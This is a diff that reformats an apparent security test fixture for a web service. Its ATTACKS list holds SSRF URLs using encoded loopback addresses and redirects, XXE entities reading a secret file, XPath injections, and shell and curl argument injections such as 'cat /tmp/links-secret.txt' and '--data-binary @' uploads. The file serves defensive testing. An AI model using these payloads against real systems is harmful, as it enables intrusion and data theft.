@@ -53,12 +53,24 @@ def _xpath(name: str) -> dict[str, object]:
 
 
 def _rss(*titles: str) -> dict[str, object]:
-    items = "".join(f"<item><title>{one}</title><link>https://example.org/{n}</link></item>" for n, one in enumerate(titles))
-    return http("POST", "/rss", f'<?xml version="1.0"?><rss version="2.0"><channel><title>News</title>{items}</channel></rss>')
+    items = "".join(
+        f"<item><title>{one}</title><link>https://example.org/{n}</link></item>"
+        for n, one in enumerate(titles)
+    )
+    return http(
+        "POST",
+        "/rss",
+        f'<?xml version="1.0"?><rss version="2.0"><channel><title>News</title>{items}</channel></rss>',
+    )
 
 
 REQUESTS = {
-    "shorten": [_shorten(LINK), _shorten("http://user@example.org:8080/a/../b?x='y'"), _shorten("javascript:alert(1)"), _shorten("@PARTNER@/articles/7")],
+    "shorten": [
+        _shorten(LINK),
+        _shorten("http://user@example.org:8080/a/../b?x='y'"),
+        _shorten("javascript:alert(1)"),
+        _shorten("@PARTNER@/articles/7"),
+    ],
     "follow": [
         http("GET", "/x", ids={"code": "nope"}),
         http("GET", "/x", ids={"code": "abc1234"}, query={"utm_source": "it's", "to": "http://localhost/x"}),
@@ -88,22 +100,39 @@ REQUESTS = {
     ],
     "partner_order": [_order("4711"), _order("R-2024-05_17"), _order("A%2F12"), _order("missing")],
     "partner_product": [_order("O'Brien/../x?y#z"), _order("茶 100%"), _order("42")],
-    "region_api": [{"region": "eu-central-1"}, {"region": "us-east-1", "user": "reader"}, {"region": "ap/south 1".replace(" ", "-")}],
+    "region_api": [
+        {"region": "eu-central-1"},
+        {"region": "us-east-1", "user": "reader"},
+        {"region": "ap/south 1".replace(" ", "-")},
+    ],
     "subscribe": [
         _hook("@PARTNER@/hooks/in?token=it's")[1],
         _hook("https://hooks.example.org/services/T0/B0/x", "users")[1],
         _hook("@PARTNER@/hooks/orders;v=2", "orders")[1],
     ],
     "deliver": [_message(), _message("nobody", name=PEOPLE[0]), _message(text=SNIPPET, note=TICKET)],
-    "feed": [_rss("It's new", "Tea &amp; cake"), _rss(), _rss("<![CDATA[<b>5 > 3</b> & {{ x }}]]>", "日本語")],
-    "import_feed": [{"url": "@PARTNER@/feed.xml"}, {"url": "@PARTNER@/export?from=2024-01-01&to=2024-12-31&name=it%27s"}],
+    "feed": [
+        _rss("It's new", "Tea &amp; cake"),
+        _rss(),
+        _rss("<![CDATA[<b>5 > 3</b> & {{ x }}]]>", "日本語"),
+    ],
+    "import_feed": [
+        {"url": "@PARTNER@/feed.xml"},
+        {"url": "@PARTNER@/export?from=2024-01-01&to=2024-12-31&name=it%27s"},
+    ],
     "invoice_xml": [
         _invoice("2024-1", "it&apos;s paid &amp; done"),
         _invoice("Ü/7", "<![CDATA[5 > 3 & <!ENTITY x>]]>"),
-        _invoice("3", "see http://localhost/x", '<!DOCTYPE invoice [<!ENTITY firm "Müller &amp; Co">]>').copy(),
+        _invoice(
+            "3", "see http://localhost/x", '<!DOCTYPE invoice [<!ENTITY firm "Müller &amp; Co">]>'
+        ).copy(),
     ],
     "catalog_xpath": [_xpath("Earl Grey"), _xpath("Assam (2nd flush)"), _xpath("it's not here")],
-    "head_check": [_at("/head", "@PARTNER@/articles/7?a=1&b=(2)"), _at("/head", "@PARTNER@/missing"), _at("/head", "@PARTNER@/a;b?c=$d&e=*")],
+    "head_check": [
+        _at("/head", "@PARTNER@/articles/7?a=1&b=(2)"),
+        _at("/head", "@PARTNER@/missing"),
+        _at("/head", "@PARTNER@/a;b?c=$d&e=*"),
+    ],
     "mirror": [
         queue({"url": "@PARTNER@/data/Report-2024.csv"}),
         queue({"url": "@PARTNER@/data/a&b;c"}, {"url": "@PARTNER@/x?y='z'"}),
@@ -119,26 +148,79 @@ _XXE = '<!DOCTYPE invoice [<!ENTITY {} SYSTEM "{}">]>'
 ATTACKS = [
     Attack("SSRF, loopback", "preview", _at("/preview", "@INSIDE@/internal/keys"), INTERNAL),
     Attack("SSRF, loopback", "preview", _at("/preview", "http://localhost:@PORT@/internal"), INTERNAL),
-    Attack("SSRF, redirect", "preview", _at("/preview", "@PARTNER@/redirect?to=http%3A%2F%2F127.0.0.1%3A@PORT@%2Finternal"), INTERNAL),
-    Attack("SSRF, decimal", "preview_checked", _at("/preview", "http://2130706433:@PORT@/internal"), INTERNAL),
+    Attack(
+        "SSRF, redirect",
+        "preview",
+        _at("/preview", "@PARTNER@/redirect?to=http%3A%2F%2F127.0.0.1%3A@PORT@%2Finternal"),
+        INTERNAL,
+    ),
+    Attack(
+        "SSRF, decimal", "preview_checked", _at("/preview", "http://2130706433:@PORT@/internal"), INTERNAL
+    ),
     Attack("SSRF, short form", "preview_checked", _at("/preview", "http://127.1:@PORT@/internal"), INTERNAL),
     Attack("SSRF, octal", "preview_checked", _at("/preview", "http://0177.0.0.01:@PORT@/internal"), INTERNAL),
-    Attack("SSRF, hexadecimal", "preview_checked", _at("/preview", "http://0x7f000001:@PORT@/internal"), INTERNAL),
-    Attack("SSRF, other loopback", "preview_checked", _at("/preview", "http://127.8.8.8:@PORT@/internal"), INTERNAL),
-    Attack("SSRF, IPv6", "preview_checked", _at("/preview", "http://[::ffff:7f00:1]:@PORT@/internal"), INTERNAL),
+    Attack(
+        "SSRF, hexadecimal", "preview_checked", _at("/preview", "http://0x7f000001:@PORT@/internal"), INTERNAL
+    ),
+    Attack(
+        "SSRF, other loopback",
+        "preview_checked",
+        _at("/preview", "http://127.8.8.8:@PORT@/internal"),
+        INTERNAL,
+    ),
+    Attack(
+        "SSRF, IPv6", "preview_checked", _at("/preview", "http://[::ffff:7f00:1]:@PORT@/internal"), INTERNAL
+    ),
     Attack("SSRF, zero", "preview_checked", _at("/preview", "http://0:@PORT@/internal"), INTERNAL),
-    Attack("SSRF, userinfo", "preview_checked", _at("/preview", "http://example.org%2F@127.1:@PORT@/internal"), INTERNAL),
-    Attack("SSRF, redirect", "preview_checked", _at("/preview", "@PARTNER@/redirect?to=http:%2f%2f127.1:@PORT@/internal"), INTERNAL),
+    Attack(
+        "SSRF, userinfo",
+        "preview_checked",
+        _at("/preview", "http://example.org%2F@127.1:@PORT@/internal"),
+        INTERNAL,
+    ),
+    Attack(
+        "SSRF, redirect",
+        "preview_checked",
+        _at("/preview", "@PARTNER@/redirect?to=http:%2f%2f127.1:@PORT@/internal"),
+        INTERNAL,
+    ),
     Attack(
         "SSRF, redirect",
         "avatar",
-        graphql("Mutation", "avatar", picture="@PARTNER@/redirect?to=http%3A%2F%2F%5B%3A%3Affff%3A127.0.0.1%5D%3A@PORT@%2Finternal"),
+        graphql(
+            "Mutation",
+            "avatar",
+            picture="@PARTNER@/redirect?to=http%3A%2F%2F%5B%3A%3Affff%3A127.0.0.1%5D%3A@PORT@%2Finternal",
+        ),
         "eyJzZWNyZXQiOiAiaW50ZXJuYWwtdG9rZW4t",
     ),
-    Attack("SSRF, zero", "avatar", graphql("Mutation", "avatar", picture="http://0.0.0.0:@PORT@/internal/x"), "eyJzZWNyZXQiOiAiaW50ZXJuYWwtdG9rZW4t"),
-    Attack("SSRF, second order", "deliver", _message(), INTERNAL, before=[_hook("http://127.0.0.1:@PORT@/internal/hook")]),
-    Attack("SSRF, second order", "deliver", _message(), INTERNAL, before=[_hook("http://a:b@2130706433:@PORT@/internal?x")]),
-    Attack("SSRF, second order", "check_links", {"latest": 1}, INTERNAL, before=[("shorten", _shorten("@INSIDE@/internal/7"))]),
+    Attack(
+        "SSRF, zero",
+        "avatar",
+        graphql("Mutation", "avatar", picture="http://0.0.0.0:@PORT@/internal/x"),
+        "eyJzZWNyZXQiOiAiaW50ZXJuYWwtdG9rZW4t",
+    ),
+    Attack(
+        "SSRF, second order",
+        "deliver",
+        _message(),
+        INTERNAL,
+        before=[_hook("http://127.0.0.1:@PORT@/internal/hook")],
+    ),
+    Attack(
+        "SSRF, second order",
+        "deliver",
+        _message(),
+        INTERNAL,
+        before=[_hook("http://a:b@2130706433:@PORT@/internal?x")],
+    ),
+    Attack(
+        "SSRF, second order",
+        "check_links",
+        {"latest": 1},
+        INTERNAL,
+        before=[("shorten", _shorten("@INSIDE@/internal/7"))],
+    ),
     Attack("SSRF, path", "partner_order", _order("../../internal/orders?"), INTERNAL),
     Attack("SSRF, path", "partner_order", _order("7/../../../internal/x#"), INTERNAL),
     Attack("SSRF, userinfo", "region_api", {"region": "x", "user": "a@127.0.0.1:@PORT@/internal?"}, INTERNAL),
@@ -148,17 +230,63 @@ ATTACKS = [
     Attack("SSRF, scheme", "import_feed", {"url": "FILE://localhost/tmp/../tmp/links-secret.txt"}, SECRET),
     Attack("SSRF, scheme", "import_feed", {"url": "<URL:file:///tmp/links-secret.txt>"}, SECRET),
     Attack("SSRF, loopback", "import_feed", {"url": "http://127.0.1:@PORT@/internal"}, INTERNAL),
-    Attack("XXE, file", "invoice_xml", _invoice("1", "&x;", _XXE.format("x", "file:///tmp/links-secret.txt")), SECRET),
-    Attack("XXE, file", "invoice_xml", _invoice("&y;", "a", '<!DOCTYPE r [<!ENTITY % p "<!ENTITY y SYSTEM \'/tmp/links-secret.txt\'>"> %p;]>'), SECRET),
-    Attack("XXE, address", "invoice_xml", _invoice("1", "&x;", '<!DOCTYPE a PUBLIC "-//x" "file:///dev/null" [<!ENTITY x SYSTEM "file:/tmp/./links-secret.txt">]>'), SECRET),
+    Attack(
+        "XXE, file",
+        "invoice_xml",
+        _invoice("1", "&x;", _XXE.format("x", "file:///tmp/links-secret.txt")),
+        SECRET,
+    ),
+    Attack(
+        "XXE, file",
+        "invoice_xml",
+        _invoice(
+            "&y;", "a", "<!DOCTYPE r [<!ENTITY % p \"<!ENTITY y SYSTEM '/tmp/links-secret.txt'>\"> %p;]>"
+        ),
+        SECRET,
+    ),
+    Attack(
+        "XXE, address",
+        "invoice_xml",
+        _invoice(
+            "1",
+            "&x;",
+            '<!DOCTYPE a PUBLIC "-//x" "file:///dev/null" [<!ENTITY x SYSTEM "file:/tmp/./links-secret.txt">]>',
+        ),
+        SECRET,
+    ),
     Attack("XPath", "catalog_xpath", _xpath('" or "1"="1'), "xpath-secret-1187"),
-    Attack("XPath", "catalog_xpath", _xpath('x"] | //product[@hidden="yes"]/price/text() | //x["'), "xpath-secret-1187"),
-    Attack("XPath", "catalog_xpath", _xpath('Assam (2nd flush)"]/following-sibling::*[.//text()!="'), "xpath-secret-1187"),
+    Attack(
+        "XPath",
+        "catalog_xpath",
+        _xpath('x"] | //product[@hidden="yes"]/price/text() | //x["'),
+        "xpath-secret-1187",
+    ),
+    Attack(
+        "XPath",
+        "catalog_xpath",
+        _xpath('Assam (2nd flush)"]/following-sibling::*[.//text()!="'),
+        "xpath-secret-1187",
+    ),
     Attack("command, quotes", "head_check", _at("/head", "x';cat /tmp/links-secret.txt;'"), SECRET),
-    Attack("command, quotes", "head_check", _at("/head", "x' -o /dev/stdout 'file:///tmp/links-secret.txt"), SECRET),
+    Attack(
+        "command, quotes",
+        "head_check",
+        _at("/head", "x' -o /dev/stdout 'file:///tmp/links-secret.txt"),
+        SECRET,
+    ),
     Attack("command, quotes", "head_check", _at("/head", "'\ncat</tmp/links-secret.txt\n: '"), SECRET),
     Attack("command, argument", "mirror", queue({"url": "-s file:///tmp/links-secret.txt"}), SECRET),
-    Attack("command, argument", "mirror", queue({"url": "@PARTNER@/echo --data-binary @/tmp/links-secret.txt"}), SECRET),
+    Attack(
+        "command, argument",
+        "mirror",
+        queue({"url": "@PARTNER@/echo --data-binary @/tmp/links-secret.txt"}),
+        SECRET,
+    ),
     Attack("SSRF, loopback", "mirror", queue({"url": "http://127.0.0.1:@PORT@/internal/m"}), INTERNAL),
-    Attack("command, argument", "mirror", queue({"url": "-Kfoo -F f=@/tmp/links-secret.txt @PARTNER@/y".replace("-Kfoo ", "")}), SECRET),
+    Attack(
+        "command, argument",
+        "mirror",
+        queue({"url": "-Kfoo -F f=@/tmp/links-secret.txt @PARTNER@/y".replace("-Kfoo ", "")}),
+        SECRET,
+    ),
 ]
